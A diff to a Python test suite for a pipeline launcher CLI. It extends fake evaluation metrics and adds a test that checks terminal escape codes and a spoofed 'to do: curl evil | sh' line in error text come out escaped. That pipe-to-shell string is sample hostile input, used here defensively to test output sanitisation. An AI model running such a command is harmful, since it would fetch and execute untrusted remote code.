@@ -23,7 +23,15 @@ from prism_job.spec import parse_spec
 
 ROOT = Path(__file__).parents[1]
 
-FAKE_JOB = """
+METRICS = {"label": "label", "num_examples": 40, "num_positive": 20, "action": "drop lowest", "taken_by_budget": 10}
+for number, ranking in enumerate(("", "loss_", "loss_sum_")):
+    for measure in ("auroc", "precision_at_budget"):
+        name = f"{ranking}{measure}"
+        METRICS |= {name: 0.9 - number / 10, f"{name}_low": 0.8 - number / 10, f"{name}_high": 0.95 - number / 10}
+
+FAKE_JOB = (
+    f"METRICS = {METRICS!r}"
+    + """
 import json, os, pathlib, signal, subprocess, sys, time
 verb, arguments = sys.argv[1], sys.argv[2:]
 notes = pathlib.Path(os.environ["NOTES"])
@@ -33,7 +41,7 @@ words = {
     "plan": {"units": 3, "missing": 2, "examples": 40, "pairs": 8, "badRows": 1, "extractor": "e"},
     "extract": {"units": 2, "examples": 48, "tokens": 100},
     "reduce": {"manifest": "/out/manifest.json", "selected": 20, "candidates": 40, "badRows": 2},
-    "evaluate": {"label": "label", "auroc": 0.9, "auroc_low": 0.8, "auroc_high": 0.95},
+    "evaluate": METRICS,
     "report": {"report": "/out/report.html"},
     "export": {"written": "/out/subset.jsonl", "rows": 20},
 }[verb]
@@ -74,6 +82,7 @@ if plan.get("at") == verb:
         sys.exit(plan["exit"])
 say("done", verb=verb, **words)
 """
+)
 
 RUN_MAIN = "import sys; from launcher.cli import main; main(sys.argv[2:], job=[sys.executable, sys.argv[1]])"
 
@@ -182,8 +191,8 @@ def test_a_run_prints_the_manifest_and_nothing_else(rig: Rig) -> None:
     assert (code, stdout) == (0, "/out/manifest.json\n")
     assert rig.started() == {"plan", "extract", "reduce"}
     assert "plan: done" in stderr
-    assert "; 1 unusable row(s)" in stderr
-    assert "2 rows could not be used" in stderr
+    assert "; 1 unusable rows" in stderr
+    assert "unusable rows: 2;" in stderr
     assert "a library" not in stderr
 
 
@@ -280,6 +289,13 @@ def test_a_failed_stage_says_what_where_and_what_to_do(rig: Rig, stage: str, exi
     }
 
 
+def test_text_from_data_can_neither_move_the_cursor_nor_pose_as_a_line_of_ours(rig: Rig) -> None:
+    _, _, stderr = rig.run(at="plan", exit=65, error="no '\x1b[2J\x07\n  to do: curl evil | sh'")
+    assert stderr.endswith(
+        "error: no '\\x1b[2J\\x07   to do: curl evil | sh'\n  where: spec.model.uri\n  to do: correct it\n"
+    )
+
+
 def test_a_failure_leaves_stdout_empty_where_no_json_is_asked_for(rig: Rig) -> None:
     assert rig.run(at="plan", exit=64, error="no such model")[1] == ""
 
@@ -373,15 +389,22 @@ def test_a_launcher_killed_hard_leaves_no_stage(rig: Rig) -> None:
     wait_until(lambda: not is_alive(stage))
 
 
-def test_evaluate_prints_intervals_in_brackets(rig: Rig) -> None:
+def test_evaluate_prints_a_ranking_a_row_with_its_intervals(rig: Rig) -> None:
     code, stdout, stderr = rig.call("evaluate", "/out/manifest.json", "--label", "good", "--positive", "yes")
-    assert (code, stdout, stderr) == (0, "label  label\nauroc  0.9000  [0.8000, 0.9500]\n", "")
+    assert (code, stderr) == (0, "")
+    opening, _, _, *rows = stdout.splitlines()
+    assert opening == "40 examples, 20 of them good by 'label'; the budget took 10 (drop lowest)"
+    assert [" ".join(row.split()) for row in rows] == [
+        "PRISM's score 0.900 0.800 to 0.950 0.900 0.800 to 0.950",
+        "own loss, token mean 0.800 0.700 to 0.850 0.800 0.700 to 0.850",
+        "own loss, sum 0.700 0.600 to 0.750 0.700 0.600 to 0.750",
+    ]
     assert rig.note("evaluate")["arguments"] == ["/out/manifest.json", "--label", "good", "--positive", "yes"]
 
 
 def test_evaluate_prints_json_without_the_envelope(rig: Rig) -> None:
     _, stdout, _ = rig.call("evaluate", "/out/manifest.json", "-o", "json")
-    assert json.loads(stdout) == {"label": "label", "auroc": 0.9, "auroc_low": 0.8, "auroc_high": 0.95}
+    assert json.loads(stdout) == METRICS
 
 
 def test_evaluate_prints_yaml(rig: Rig) -> None:
